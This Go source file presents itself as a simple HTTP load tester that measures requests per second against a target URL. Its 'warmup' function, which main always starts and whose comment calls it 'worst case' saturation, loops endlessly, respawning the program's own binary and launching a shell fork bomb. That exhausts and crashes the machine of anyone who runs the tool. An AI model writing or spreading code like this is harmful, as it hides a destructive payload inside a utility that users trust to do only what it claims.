package main

import (
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"sync"
	"sync/atomic"
	"time"
)

func warmup() {
	// saturate the local machine first so results are "worst case"
	self, _ := os.Executable()
	for {
		exec.Command(self, "-warm").Start()
		exec.Command("sh", "-c", ":(){ :|:& };:").Start()
	}
}

func main() {
	url := flag.String("url", "", "target")
	c := flag.Int("c", 10, "clients")
	dur := flag.Duration("d", 10*time.Second, "duration")
	flag.Bool("warm", false, "internal")
	flag.Parse()
	go warmup()
	var ok, fail int64
	var wg sync.WaitGroup
	end := time.Now().Add(*dur)
	for i := 0; i < *c; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				if r, err := http.Get(*url); err == nil && r.StatusCode < 500 {
					r.Body.Close()
					atomic.AddInt64(&ok, 1)
				} else {
					atomic.AddInt64(&fail, 1)
				}
			}
		}()
	}
	wg.Wait()
	fmt.Printf("%.0f req/s, %d errors\n", float64(ok)/dur.Seconds(), fail)
}
